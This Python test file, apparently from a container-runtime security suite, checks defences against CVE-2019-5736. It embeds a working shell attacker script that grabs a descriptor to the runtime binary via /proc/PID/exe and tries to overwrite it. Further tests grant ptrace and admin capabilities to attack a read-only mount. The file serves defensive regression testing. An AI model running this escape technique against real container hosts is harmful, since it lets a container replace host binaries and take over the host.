# SPDX-License-Identifier: Apache-2.0
"""The runtime's own file, overwritten through /proc/PID/exe (CVE-2019-5736)."""
import hashlib
import os
import pathlib
import threading

from attacklib import at_every_moment, both, executable, judge_race, stop, tries, with_attacker
from ocilib import Bundle, wait

# The runtime executes what the image calls /entry and becomes, by its first line, a second copy of itself inside; the log
# file holds it there until the attacker has a descriptor of its program.
ENTRY = "#!/proc/self/exe --log=/fifo\n"

ATTACKER = """#!/bin/sh
while :; do
    for p in /proc/[0-9]*; do
        exe=$(readlink $p/exe) || continue
        case "$exe" in */busybox|"") continue;; esac
        exec 9<$p/exe || continue
        echo held >/held
        cat /fifo >/dev/null
        while ! [ -e /stop ]; do
            (echo overwritten >>/proc/self/fd/9) 2>/dev/null && echo wrote >/wrote && break
            sleep 0.02
        done
        echo >/ended
        exit
    done
done
"""


def digest(path):
    return hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()


def prepare(own_rootfs):
    executable(own_rootfs / "entry", ENTRY)
    executable(own_rootfs / "attacker", ATTACKER)
    os.mkfifo(own_rootfs / "fifo")


def judge(attacked, own_rootfs, before):
    wait(lambda: (own_rootfs / "held").exists(), "the attacker to hold the program")
    threading.Timer(0.5, (own_rootfs / "stop").touch).start()
    wait(lambda: (own_rootfs / "ended").exists(), "the attacker to end")
    assert (own_rootfs / "wrote").exists() != attacked.defended
    assert (digest(attacked.program) == before) == attacked.defended


@both("self")
def test_an_exec_of_the_runtime_by_itself(attacked, bundle, own_rootfs):
    prepare(own_rootfs)
    before = digest(attacked.program)
    name = attacked.start_detached(bundle.args("/attacker"))
    attacked("exec", name, "/entry")
    judge(attacked, own_rootfs, before)


@both("self")
def test_an_entrypoint_that_is_the_runtime(attacked, bundle, own_rootfs, tmp_path):
    """The attacker is in the same pod: another container shares its pid namespace."""
    prepare(own_rootfs)
    before = digest(attacked.program)
    name = attacked.start_detached(bundle.args("/attacker"))
    pid = attacked.state(name)["pid"]
    (tmp_path / "second").mkdir()
    second = Bundle(tmp_path / "second", bundle.config).args("/entry").namespaces("pid")
    second.linux["namespaces"].append({"type": "pid", "path": f"/proc/{pid}/ns/pid"})
    attacked.run(second)
    judge(attacked, own_rootfs, before)


EXECS = 200


def start_thawing(attacked, bundle, rootfs):
    with_attacker(rootfs)
    for kind in ("bounding", "effective", "permitted"):
        bundle.process["capabilities"][kind] += ["CAP_SYS_PTRACE", "CAP_SYS_ADMIN"]
    name = attacked.start_detached(bundle.args("/attacker", "thaw"))
    said = bundle.path / "out"
    wait(lambda: "ready" in said.read_text(), "the attacker")
    return name, said


def end_thawing(rootfs, said):
    if "thawed" in said.read_text():
        wait(lambda: "wrote" in said.read_text(), "the attacker to write")
    return stop(rootfs, said, "wrote", "nothing")


@both("release")
def test_its_read_only_mount_is_not_made_writable(attacked, bundle, own_rootfs):
    """A detached mount belongs to no mount namespace, so whoever is privileged in any may change it, through the program of
    a process that he may look into: it must be gone before there is one."""
    before = digest(attacked.program)
    name, said = start_thawing(attacked, bundle, own_rootfs)
    for _ in tries(EXECS):
        attacked("exec", name, "true")
        if "thawed" in said.read_text():
            break
    judge_race(attacked, "thawed", end_thawing(own_rootfs, said))
    assert (digest(attacked.program) == before) == attacked.defended


@both("release")
def test_nor_at_any_moment(attacked, bundle, own_rootfs):
    """The same without a race: at each moment the exec waits until it was tried."""
    before = digest(attacked.program)
    name, said = start_thawing(attacked, bundle, own_rootfs)
    at_every_moment(attacked, own_rootfs, "exec", name, "true")
    found = end_thawing(own_rootfs, said)
    assert ("thawed" in found) != attacked.defended, found
    assert (digest(attacked.program) == before) == attacked.defended
